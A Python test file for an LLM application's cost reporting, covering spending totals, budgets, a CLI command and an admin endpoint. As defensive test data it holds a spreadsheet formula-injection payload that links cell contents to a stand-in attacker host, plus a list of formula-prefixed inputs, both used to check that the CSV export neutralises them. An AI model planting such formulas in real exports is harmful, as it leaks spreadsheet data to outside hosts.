"""What was spent, as the command and the endpoint tell it."""

import csv
import io
import json
import time
from decimal import Decimal
from zoneinfo import ZoneInfo

import httpx
import pytest
import sqlalchemy as sa
from spending_stores import Clock, Heard, asking, attempt, limits, outgoing
from typer.testing import CliRunner

from app.commands.cost import app as cost_command
from app.engine import Engine
from app.errors import InvalidRequest, StoreUnavailable
from app.llm.budgets import StoredBudgets
from app.llm.config import LlmConfig
from app.llm.cost_report import as_csv, checked_dimensions, cost_report, moment
from app.llm.ledger import open_ledger
from app.llm.periods import period_at
from app.llm.spending_store import open_spending
from app.llm.values import TokenCount
from app.ops.keys import KeyStore
from app.ops.site import SiteOptions
from app.ops.sites import SiteStore
from app.ops.state import TRACES, open_state
from app.settings import Settings

NOW = time.time()
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@pytest.fixture
def spent(spending):
    """An engine over a ledger in which every kind of attempt is."""
    ledger = open_ledger(spending, Heard())
    key, _ = KeyStore(spending.state_path).add("analyst", name="dashboards")
    for changed in (
        {"answer_id": "a1", "key_id": key.id, "sources": ("shop", "help"), "cost_usd": Decimal("0.000000001")},
        {"answer_id": "a1", "key_id": key.id, "task": "plan_sql", "outcome": "invalid", "cost_usd": Decimal("0.5")},
        {"answer_id": "a2", "key_id": None, "sources": (), "outcome": "failed", "cost_usd": Decimal(0)},
        {"answer_id": "a2", "outcome": "cached", "cost_usd": Decimal(0), "saved_usd": Decimal("0.25")},
        {"answer_id": "a3", "provider": "local", "model": FORMULA, "cost_usd": None, "prompt": "write@9"},
        {"answer_id": "a4", "at": NOW - 40 * 86_400, "cost_usd": Decimal(7)},
        {"answer_id": "a5", "at": NOW - 3 * 86_400, "tokens": TokenCount(input=5, output=2, estimated=True)},
    ):
        ledger.append(attempt(**({"at": NOW - 5} | changed)))
    ledger.close()
    with open_state(spending.state_path).begin() as connection:
        trace = dict.fromkeys([column.name for column in TRACES.columns], "x") | {"created_at": NOW, "confidence": 0.5}
        connection.execute(sa.insert(TRACES), trace | {"id": "a1", "question": "What did <PERSON_1> buy?"})
    return Engine(spending)


def test_what_a_site_cost_has_its_name(spending):
    options = SiteOptions(name="Help pages", origins=("https://help.example.com",))
    site, _ = SiteStore(spending.state_path).add(options)
    ledger = open_ledger(spending, Heard())
    ledger.append(attempt(at=NOW - 5, key_id=site.id, cost_usd=Decimal("0.5")))
    ledger.close()
    assert by(cost_report(Engine(spending)), "key")[site.id].label == "Help pages"


def by(report, dimension):
    return {spend.name: spend for spend in report.by[dimension]}


def test_the_total_is_exact_and_leaves_unknown_prices_out(spent):
    total = cost_report(spent).total
    assert total.cost_usd == "0.500450001"
    assert (total.attempts, total.failed, total.cached, total.unpriced, total.estimated) == (6, 2, 1, 1, 1)
    assert total.saved_usd == "0.25"
    assert (total.input_tokens, total.output_tokens) == (4005, 402), "those of a cached reply are not counted"


def test_every_group_is_there_the_dearest_first(spent):
    report = cost_report(spent)
    assert list(report.by) == ["key", "task", "model", "prompt", "source", "day", "question"]
    key = report.by["key"][0]
    assert (key.label, key.cost_usd) == ("dashboards", "0.500000001")
    assert by(report, "key")[""].attempts == 1
    assert [(spend.name, spend.cost_usd) for spend in report.by["task"]] == [
        ("plan_sql", "0.5"),
        ("write", "0.000450001"),
    ]
    assert by(report, "model")[f"local/{FORMULA}"].cost_usd is None
    assert set(by(report, "prompt")) == {"write@1234", "write@9"}
    sources = by(report, "source")
    assert (sources["help"].cost_usd, sources["shop"].cost_usd) == ("0.000000001", "0.500450001")
    assert sources[""].attempts == 1
    assert [spend.name for spend in report.by["question"]] == ["a1", "a5", "a2", "a3"]
    assert report.by["question"][0].label == "What did <PERSON_1> buy?"


def test_days_follow_one_another_without_gaps_and_add_up(spent):
    report = cost_report(spent, since="4d", by=["day"])
    names = [spend.name for spend in report.by["day"]]
    first = period_at(NOW - 4 * 86_400, "day", ZoneInfo("UTC"))
    assert names[0] == first.name
    assert len(names) == 5
    assert sum(spend.attempts for spend in report.by["day"]) == report.total.attempts == 6
    assert by(report, "day")[period_at(NOW - 3 * 86_400, "day", ZoneInfo("UTC")).name].attempts >= 1


def test_since_takes_older_attempts_in_or_leaves_them_out(spent):
    assert cost_report(spent, since="60d", by=["task"]).total.cost_usd == "7.500450001"
    assert cost_report(spent, since="1h", by=["task"]).total.attempts == 5


def test_an_empty_ledger_cost_nothing(spending):
    report = cost_report(Engine(spending))
    assert (report.total.cost_usd, report.total.attempts) == ("0", 0)
    assert report.by["key"] == []


def test_csv_has_no_cell_that_a_spreadsheet_computes(spent):
    rows = list(csv.reader(io.StringIO(as_csv(cost_report(spent)))))
    assert rows[0][:4] == ["by", "name", "label", "attempts"]
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert any(cell == f"local/{FORMULA}" for row in rows for cell in row)


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\tx", "\r=1", "＝1", "|x", "%x"])
def test_names_like_formulas_are_quoted(spending, name):
    ledger = open_ledger(spending, Heard())
    ledger.append(attempt(at=NOW, sources=(name,), prompt=name))
    ledger.close()
    rows = list(csv.reader(io.StringIO(as_csv(cost_report(Engine(spending), by=["source", "prompt"])), newline="")))
    assert [row[1] for row in rows[2:]] == [f"'{name}"] * 2


@pytest.mark.parametrize(
    "since", ["", "30", "30y", "d", "-3d", "1e9d", "99999w", "2026-13-01", "2999-01-01", "1800-01-01", "x" * 100]
)
def test_a_wrong_since_is_refused(since):
    with pytest.raises(InvalidRequest, match="since"):
        moment(since, NOW, ZoneInfo("UTC"))


def test_a_date_begins_at_its_midnight_in_the_time_zone():
    assert moment("2026-10-25", 1_795_262_400.0, ZoneInfo("Europe/Berlin")) == 1_792_879_200.0


def test_a_wrong_dimension_is_refused():
    with pytest.raises(InvalidRequest, match="colour"):
        checked_dimensions(["colour"])
    assert checked_dimensions(["day", "key", "day"]) == ("key", "day")


def test_a_store_that_is_down_is_said(tmp_path):
    with pytest.raises(StoreUnavailable):
        cost_report(Engine(Settings(home=tmp_path, spending_url="postgresql://u:secret@127.0.0.1:1/d")))


def test_budgets_are_shown_with_what_is_left(spending, monkeypatch):
    config = limits(("all", "day", 5), ("key:*", "month", 2), ("task:write", "month", 1))
    monkeypatch.setattr("app.llm.cost_report.configured", lambda _settings: LlmConfig(budgets=config))
    budgets = StoredBudgets(open_spending(spending), config, Heard(), clock=Clock(time.time()))
    budgets.reserve(outgoing("split"), asking(key="k1"), Decimal(1)).settle(Decimal("0.75"))
    held = budgets.reserve(outgoing("split"), asking(key="k2"), Decimal("1.6"))
    states = cost_report(Engine(spending), by=["task"]).budgets
    told = [(state.scope, state.spent_usd, state.reserved_usd, state.left_usd, state.soft_reached) for state in states]
    assert told == [
        ("all", "0.75", "1.6", "2.65", False),
        ("key:k1", "0.75", "0", "1.25", False),
        ("key:k2", "0", "1.6", "0.4", False),
        ("task:write", "0", "0", "1", False),
    ]
    assert states[0].resets_at.endswith("T00:00:00+00:00")
    held.settle(Decimal("1.6"))
    assert cost_report(Engine(spending), by=["task"]).budgets[2].soft_reached
    budgets.close()


class TestCommand:
    """`answerable cost`."""

    def test_shows_json_csv_and_tables(self, spent):
        env = {"ANSWERABLE_HOME": str(spent.settings.home), "ANSWERABLE_SPENDING_URL": spent.settings.spending_url}

        def run(*arguments):
            return (
                CliRunner().invoke(cost_command, arguments, env=env | {"COLUMNS": "100"}, catch_exceptions=False).stdout
            )

        assert json.loads(run("--json"))["total"]["cost_usd"] == "0.500450001"
        assert len(run("--csv", "--by", "task").splitlines()) == 4
        text = run("--since", "60d")
        assert "$7.500450001" in text
        assert "Attempts without a known price, not in the sum: 1." in text
        assert "What did <PERSON_1> buy?" in text

    def test_is_a_command(self, cli, tmp_path):
        assert json.loads(cli(tmp_path, "cost", "--json", "--by", "day").stdout)["total"]["attempts"] == 0

    def test_says_what_is_wrong(self, cli, tmp_path):
        wrong = cli(tmp_path, "cost", "--since", "yesterday")
        assert wrong.returncode == 1
        assert "30d" in wrong.stderr

    def test_purges_what_is_old_and_keeps_what_is_not(self, tmp_path):
        ledger = open_ledger(Settings(home=tmp_path), Heard())
        for days in (1, 61, 63, 500):
            ledger.append(attempt(at=NOW - days * 86_400))
        ledger.close()
        env = {"ANSWERABLE_HOME": str(tmp_path)}
        run = CliRunner().invoke
        assert isinstance(
            run(cost_command, ["purge", "--older-than", "61d", "--yes"], env=env).exception, InvalidRequest
        )
        assert run(cost_command, ["purge", "--older-than", "62d"], env=env, input="n\n").exit_code == 1
        assert "2 rows" in run(cost_command, ["purge", "--older-than", "62d", "--yes"], env=env).stdout
        assert cost_report(Engine(Settings(home=tmp_path)), since="600d").total.attempts == 2


@pytest.fixture(scope="module")
def served(tmp_path_factory, serve):
    """A service with a ledger, and a header for each kind of key."""
    home = tmp_path_factory.mktemp("cost-service")
    keys = KeyStore(home / "state.db")
    made = {role: keys.add(role)[1] for role in ("owner", "analyst", "visitor")}
    made["limited"] = keys.add("owner", sources=["shop"])[1]
    ledger = open_ledger(Settings(home=home), Heard())
    ledger.append(attempt(at=NOW, cost_usd=Decimal("0.123456789")))
    ledger.close()
    headers = {role: {"Authorization": f"Bearer {token}"} for role, token in made.items()}
    with serve(home, ready="/healthz", ANSWERABLE_REQUIRE_KEY="true", ANSWERABLE_SCHEDULER="off") as base:
        yield lambda role="", query="": httpx.get(f"{base}/v1/admin/cost{query}", headers=headers.get(role), timeout=30)


class TestEndpoint:
    """`GET /v1/admin/cost`."""

    def test_only_an_owner_of_everything_may_see_it(self, served):
        assert served().status_code == 401
        for role in ("analyst", "visitor", "limited"):
            reply = served(role)
            assert (reply.status_code, reply.json()["error"]["code"]) == (403, "not_permitted")
            assert "0.12" not in reply.text

    def test_it_gives_what_the_command_gives(self, served):
        report = served("owner").json()
        assert report["total"]["cost_usd"] == "0.123456789"
        assert report["by"]["question"][0]["name"] == "a1"
        assert list(served("owner", "?by=task&by=day&since=1h").json()["by"]) == ["task", "day"]
        found = served("owner", "?format=csv&by=task")
        assert found.headers["content-type"] == "text/csv; charset=utf-8"
        assert [line.split(",")[:2] for line in found.text.splitlines()] == [
            ["by", "name"],
            ["total", ""],
            ["task", "write"],
        ]

    @pytest.mark.parametrize("query", ["?by=colour", "?since=yesterday", "?format=xml", "?since=" + "9" * 50])
    def test_wrong_queries_are_said(self, served, query):
        reply = served("owner", query)
        assert (reply.status_code, reply.json()["error"]["code"]) == (400, "invalid_request")


def test_metrics_count_attempts(tmp_path):
    from app.ops.metrics import Metrics

    metrics = Metrics()
    ledger = open_ledger(Settings(home=tmp_path), Heard(), metrics.count_attempt)
    ledger.append(attempt())
    ledger.append(attempt(outcome="cached", cost_usd=Decimal(0), saved_usd=Decimal("0.5")))
    ledger.append(attempt(outcome="failed", cost_usd=None, tokens=TokenCount()))
    shown = metrics.exposition().decode()
    model = 'model="main/gpt-5-mini"'
    assert f'answerable_llm_attempts_total{{{model},outcome="cached",task="write"}} 1.0' in shown
    assert f'answerable_llm_tokens_total{{kind="input",{model},task="write"}} 1000.0' in shown
    assert f'answerable_llm_cost_usd_total{{{model},task="write"}} 0.00045' in shown
    assert "answerable_llm_saved_usd_total 0.5" in shown
    assert f"answerable_llm_unpriced_attempts_total{{{model}}} 1.0" in shown
    ledger.close()


def test_a_spent_budget_is_429_with_the_time_to_wait():
    from app.api.errors import error_response
    from app.llm.errors import BudgetSpent
    from app.llm.exhausted import exhausted

    reply = error_response(None, exhausted(BudgetSpent("x", resets_at=time.time() + 90)))
    assert reply.status_code == httpx.codes.TOO_MANY_REQUESTS
    assert 88 <= int(reply.headers["Retry-After"]) <= 91
    assert reply.content.error.code == "budget_exhausted"
    late = error_response(None, exhausted(BudgetSpent("x", resets_at=time.time() - 5)))
    assert late.headers["Retry-After"] == "1"
    assert "Retry-After" not in error_response(None, exhausted(BudgetSpent("x"))).headers
